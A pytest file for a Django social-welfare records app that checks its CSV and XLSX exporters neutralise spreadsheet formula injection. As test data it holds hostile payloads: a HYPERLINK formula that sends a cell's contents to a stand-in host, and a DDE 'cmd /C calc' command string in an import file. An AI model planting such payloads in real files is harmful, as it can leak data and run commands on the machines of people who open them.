"""Issue 10: exported XLSX/CSV cells that begin with = + - @ were written as formulas (names,
indicators, the import report). Every writer goes through ``inti.ekspor``."""

import csv
import io
from datetime import date

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from kesos.akun.access import SISTEM
from kesos.inti.ekspor import berbahaya, netralkan_xlsx, teks_aman
from kesos.laporan.evaluasi_xlsx import buat_e81, buat_tc29
from kesos.laporan.renja_xlsx import buat_xlsx
from kesos.monev.queries import e81, tc29
from kesos.perencanaan import queries, services
from kesos.perencanaan.models import BarisRenja

JAHAT = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+1", "-2", "@SUM(A1:A9)", "=1+1"]


def _teks_sel(data: bytes) -> dict[str, object]:
    """Every cell of every sheet read back: value and whether it is stored as a formula."""
    wb = load_workbook(io.BytesIO(data))
    return {
        str(c.value): c.data_type
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def test_helpers():
    assert [teks_aman(t) for t in JAHAT] == ["'" + t for t in JAHAT]
    assert teks_aman("Budi") == "Budi" and teks_aman(-2) == -2 and teks_aman(None) is None
    assert not berbahaya("1.6.1.1") and berbahaya("\t=1")


def test_xlsx_writers_keep_formula_text_as_text(renja_demo, renstra_demo):
    baris = list(BarisRenja.objects.filter(renja=renja_demo, induk__isnull=False).order_by("urutan")[:5])
    for b, teks in zip(baris, JAHAT, strict=True):
        services.baris_ubah(
            baris=b,
            versi=b.versi,
            nama=teks,
            lokasi=teks,
            catatan=teks,
            indikator=[services.IndikatorInput(teks, "10 Orang")],
            pengguna=SISTEM,
        )
    rancangan = services.renja_lanjutkan(renja=renja_demo, pengguna=SISTEM)
    final = services.renja_lanjutkan(renja=rancangan, pengguna=SISTEM)
    for data in (
        buat_xlsx(queries.renja_ringkasan(final)),
        buat_e81(e81(final)),
        buat_tc29(tc29(organisasi=final.organisasi, tahun=2021)),
    ):
        sel = _teks_sel(data)
        assert all(t != "f" for t in sel.values()), [v for v, t in sel.items() if t == "f"]
    sel = _teks_sel(buat_xlsx(queries.renja_ringkasan(final)))
    for teks in JAHAT:
        assert sel.get(teks) == "s", teks  # read back as the same text, stored as text


def test_every_formula_cell_of_a_workbook_is_neutralised():
    from openpyxl import Workbook

    wb = Workbook()
    for i, teks in enumerate(JAHAT, start=1):
        wb.active.cell(row=i, column=1, value=teks)
    assert netralkan_xlsx(wb) == len(JAHAT)
    assert all(c.data_type == "s" and c.quotePrefix for (c,) in wb.active.iter_rows())


def _baca_csv(teks: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(teks)))


def _aman(rows: list[list[str]]) -> None:
    for row in rows:
        for sel in row:
            assert not berbahaya(sel), sel


@pytest.fixture
def orang_jahat(registri):
    from kesos.registri.models import Kategori
    from kesos.registri.services import klasifikasi_tambah, orang_simpan

    o, _ = orang_simpan(
        nik="1804041203850001",
        nama='=HYPERLINK("http://contoh.invalid","klik")',
        jenis_kelamin="L",
        tanggal_lahir=date(1985, 3, 12),
        desa_kode="18.04.04.1001",
        alamat="@SUM(A1)",
        hubungan_keluarga="-2",
        pengguna=SISTEM,
    )
    fm = Kategori.objects.get(kode="FM")
    fm.nama = "+1 Fakir miskin"
    fm.save()
    klasifikasi_tambah(orang=o, kategori=fm, tanggal=date(2026, 1, 1), pengguna=SISTEM)
    return o


def test_csv_writers_prefix_formula_text(client, login, orang_jahat, capsys, tmp_path):
    from django.urls import reverse

    from kesos.registri.impor import registri_import

    r = client.get(reverse("registri:data-terbuka") + "?format=csv")
    rows = _baca_csv(r.content.decode())
    _aman(rows)
    assert any(s == "'+1 Fakir miskin" for row in rows for s in row)

    call_command("registri", "rekap", "--format", "csv")
    _aman(_baca_csv(capsys.readouterr().out))

    r = login("operator_a").post(reverse("registri:ekspor"), {"tujuan": "uji"})
    rows = _baca_csv(r.content.decode("utf-8-sig"))
    _aman(rows)
    assert rows[1][2] == "'" + orang_jahat.nama and rows[1][5] == "'@SUM(A1)"

    isi = (
        b"nik,nama,jenis_kelamin,tanggal_lahir,kecamatan,desa\n"
        b"1804041203850009,Budi,L,12-03-1985,=cmd|' /C calc'!A0,-x\n"
    )
    hasil = registri_import(berkas=isi, pada=date(2026, 6, 1), pengguna=SISTEM)
    laporan = tmp_path / "laporan.csv"
    hasil.tulis_laporan(laporan)
    rows = _baca_csv(laporan.read_text())
    assert len(rows) > 1
    _aman(rows)


def test_no_writer_bypasses_the_formula_safe_helper():
    """Every CSV goes through inti.ekspor's writer and every workbook through laporan.gaya.simpan:
    a new writer that calls csv.writer or Workbook.save itself fails here."""
    import re
    from pathlib import Path

    akar = Path(__file__).resolve().parents[2]
    for f in akar.rglob("*.py"):
        if "tests" in f.parts or "migrations" in f.parts:
            continue
        teks = f.read_text()
        if f.name != "ekspor.py":
            assert not re.search(r"csv\.(writer|DictWriter)\(", teks), f
        if f.name != "gaya.py":
            assert not re.search(r"\bwb\.save\(|\.save\(buf\)|\.save\(io\.", teks), f
